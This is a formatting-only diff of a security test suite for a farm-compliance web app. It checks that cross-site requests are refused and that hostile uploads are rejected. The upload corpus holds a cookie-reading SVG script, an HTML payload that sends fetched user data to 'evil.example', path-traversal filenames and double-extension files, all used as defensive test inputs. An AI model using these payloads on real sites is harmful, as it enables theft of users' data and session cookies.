@@ -26,7 +26,8 @@ afterAll(() => w?.close());
 
 function filesUnder(dir: string): number {
   let n = 0;
-  for (const e of readdirSync(dir, { withFileTypes: true })) n += e.isDirectory() ? filesUnder(path.join(dir, e.name)) : statSync(path.join(dir, e.name)).size > 0 ? 1 : 0;
+  for (const e of readdirSync(dir, { withFileTypes: true }))
+    n += e.isDirectory() ? filesUnder(path.join(dir, e.name)) : statSync(path.join(dir, e.name)).size > 0 ? 1 : 0;
   return n;
 }
 
@@ -56,7 +57,8 @@ describe('cross-site requests', () => {
         for (const [k, v] of Object.entries(headers)) req = req.set(k, v);
         const res = await req.send({ name: 'x', approvalName: 'x', password: 'Harvest#2025', email: 'x@y.test', otp: '123456' });
         sent++;
-        if (res.status !== 403 || res.body.code !== 'CROSS_SITE') wrong.push(`${r.method} ${r.path} (${label}): ${res.status} ${JSON.stringify(res.body).slice(0, 120)}`);
+        if (res.status !== 403 || res.body.code !== 'CROSS_SITE')
+          wrong.push(`${r.method} ${r.path} (${label}): ${res.status} ${JSON.stringify(res.body).slice(0, 120)}`);
       }
     }
     expect(wrong).toEqual([]);
@@ -67,14 +69,18 @@ describe('cross-site requests', () => {
   });
 
   it('lets the same request through from the app itself (the guard is what refused)', async () => {
-    const res = await w.agents.admin.post('/api/company/approvaltemplate/create').send({ approvalName: 'Same-site', approvalLevels: [{ group: 'G', signers: [], signatures: 1 }] });
+    const res = await w.agents.admin
+      .post('/api/company/approvaltemplate/create')
+      .send({ approvalName: 'Same-site', approvalLevels: [{ group: 'G', signers: [], signatures: 1 }] });
     expect(res.status).toBe(201);
   });
 });
 
 describe('upload corpus', () => {
   const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="640" height="480"><script>alert(document.cookie)</script></svg>');
-  const HTML = Buffer.from('<!doctype html><html><body><script>fetch("/api/company/users").then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script></body></html>');
+  const HTML = Buffer.from(
+    '<!doctype html><html><body><script>fetch("/api/company/users").then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script></body></html>',
+  );
   const PNG = samplePng(640, 480, 99);
   const CORPUS: Array<[string, string, Buffer]> = [
     ['wrong magic bytes', 'lab-report.pdf', Buffer.from('hello, this is not a PDF at all\n')],
@@ -87,27 +93,48 @@ describe('upload corpus', () => {
     ['../ name (pdf)', '../../etc/lab-report.pdf', PDF_BYTES],
     ['..\\ name (pdf)', '..\\..\\lab-report.pdf', PDF_BYTES],
     ['../ name (png)', '../grain.png', PNG],
-    ['../ name (csv)', '../harvest.csv', Buffer.from('item,grainType,harvestGrade,storageLocation,quantity,protein,moisture,productionDate\n1,Wheat,APH,Silo A1,1200,13.1,10.2,01/11/2025\n')],
+    [
+      '../ name (csv)',
+      '../harvest.csv',
+      Buffer.from('item,grainType,harvestGrade,storageLocation,quantity,protein,moisture,productionDate\n1,Wheat,APH,Silo A1,1200,13.1,10.2,01/11/2025\n'),
+    ],
     ['double extension .exe.pdf', 'invoice.exe.pdf', PDF_BYTES],
     ['double extension .pdf.html', 'lab-report.pdf.html', HTML],
     ['double extension .svg.png', 'grain.svg.png', PNG],
     ['double extension .php.csv', 'harvest.php.csv', Buffer.from('a,b\n1,2\n')],
   ];
-  interface Target { name: string; url: () => string; fields?: () => Record<string, string>; verifier?: boolean }
+  interface Target {
+    name: string;
+    url: () => string;
+    fields?: () => Record<string, string>;
+    verifier?: boolean;
+  }
   let unverified: string;
   const TARGETS: Target[] = [
     { name: 'document create', url: () => '/api/company/document/create', fields: () => ({ docType: 'certificate' }) },
     { name: 'document update', url: () => `/api/company/document/${w.own.documentId}/update`, fields: () => ({ version: '1' }) },
-    ...['establishment', 'haccp-plan', 'management-plan', 'pest-control'].map((seg) => ({ name: `compliance ${seg}`, url: () => `/openai/${seg}/${w.own.complianceId}/upload` })),
+    ...['establishment', 'haccp-plan', 'management-plan', 'pest-control'].map((seg) => ({
+      name: `compliance ${seg}`,
+      url: () => `/openai/${seg}/${w.own.complianceId}/upload`,
+    })),
     { name: 'farm CSV', url: () => '/api/farmdata/harvesting/upload' },
     { name: 'grain photo', url: () => '/api/farmdata/verification/upload', fields: () => ({ farm_data_id: unverified }), verifier: true },
   ];
 
   let server: Server;
   beforeAll(async () => {
-    unverified = (await createStores(w.t.db.knex).farmData.create(w.own.companyId, w.own.co.users.admin.id, {
-      grainType: 'Wheat', harvestGrade: 'APH', storageLocation: 'Silo 9', quantity: 10, protein: 12, moisture: 10, productionDate: '2025-03-01', dataType: 'Manual',
-    }))._id;
+    unverified = (
+      await createStores(w.t.db.knex).farmData.create(w.own.companyId, w.own.co.users.admin.id, {
+        grainType: 'Wheat',
+        harvestGrade: 'APH',
+        storageLocation: 'Silo 9',
+        quantity: 10,
+        protein: 12,
+        moisture: 10,
+        productionDate: '2025-03-01',
+        dataType: 'Manual',
+      })
+    )._id;
     server = w.t.app.listen(0, '127.0.0.1');
     await new Promise((r) => server.once('listening', r));
   });
@@ -152,8 +179,13 @@ describe('upload corpus', () => {
     for (const t of TARGETS) {
       const ext = t.name === 'farm CSV' ? 'csv' : t.verifier ? 'png' : 'pdf';
       const res = await streamUpload({
-        url: base + t.url(), headers: { origin: TEST_ORIGIN, cookie: `grain_sid=${cookie!.value}` }, field: 'file', fileName: `big.${ext}`, size: 51 * 1024 * 1024,
-        fields: t.fields?.(), head: ext === 'pdf' ? PDF_BYTES : ext === 'png' ? PNG : undefined,
+        url: base + t.url(),
+        headers: { origin: TEST_ORIGIN, cookie: `grain_sid=${cookie!.value}` },
+        field: 'file',
+        fileName: `big.${ext}`,
+        size: 51 * 1024 * 1024,
+        fields: t.fields?.(),
+        head: ext === 'pdf' ? PDF_BYTES : ext === 'png' ? PNG : undefined,
       });
       answers.push(`${t.name}: ${res.status} ${res.body?.code}`);
     }
